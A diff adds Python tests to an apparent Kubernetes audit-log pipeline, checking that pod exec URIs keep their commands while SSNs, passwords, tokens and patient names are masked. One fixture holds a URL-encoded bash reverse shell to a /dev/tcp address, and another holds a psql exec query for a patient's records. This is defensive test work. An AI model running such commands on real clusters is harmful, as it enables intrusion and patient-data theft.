@@ -49,3 +49,34 @@ def test_columns_of_a_hostile_event_are_typed_or_null() -> None:
     values = dict(zip(COLUMNS, to_row(orjson.dumps(ev)).values, strict=True))
     assert values["code"] is None and values["user"] is None and values["groups"] == ["ok"]
     assert values["source_ip"] is None
+
+
+EXEC = ("/api/v1/namespaces/clinical/pods/ehr-0/exec?command=psql&command=-c&command=select%20*%20from%20patients"
+        "%20where%20ssn%3D%27123-45-6789%27&command=--password%3Dhunter2&container=app&stdout=true")
+SHELL = ("/api/v1/namespaces/clinical/pods/ehr-0/exec?command=sh&command=-c&command=bash%20-i%20%3E%26%20%2Fdev%2F"
+         "tcp%2F203.0.113.9%2F4444%200%3E%261&container=app")
+
+
+def _uri(uri: str) -> str:
+    row = to_row(orjson.dumps(raw_event("create", "pods", sub="exec", name="ehr-0", uri=uri)))
+    stored = dict(zip(COLUMNS, row.values, strict=True))
+    assert orjson.loads(stored["event"])["requestURI"] == stored["request_uri"]
+    return str(stored["request_uri"])
+
+
+def test_exec_commands_are_kept_with_their_secrets_and_phi_masked() -> None:
+    from urllib.parse import parse_qs, urlsplit
+
+    q = parse_qs(urlsplit(_uri(EXEC)).query)
+    assert q["command"][:2] == ["psql", "-c"] and "<redacted:ssn>" in q["command"][2]
+    assert "123-45-6789" not in _uri(EXEC) and "hunter2" not in _uri(EXEC)
+    assert q["container"] == ["app"] and q["stdout"] == ["true"]
+    shell = parse_qs(urlsplit(_uri(SHELL)).query)["command"]
+    assert shell == ["sh", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"]  # the evidence survives
+
+
+def test_query_parameters_named_like_secrets_and_proxied_queries_are_masked() -> None:
+    assert "abc123" not in _uri("/api/v1/pods?watch=true&access_token=abc123")
+    assert "watch=true" in _uri("/api/v1/pods?watch=true&access_token=abc123")
+    proxied = _uri("/api/v1/namespaces/x/services/web:80/proxy/search?patient=Jane%20Doe")
+    assert "Jane" not in proxied and proxied.endswith("?<redacted:query>")
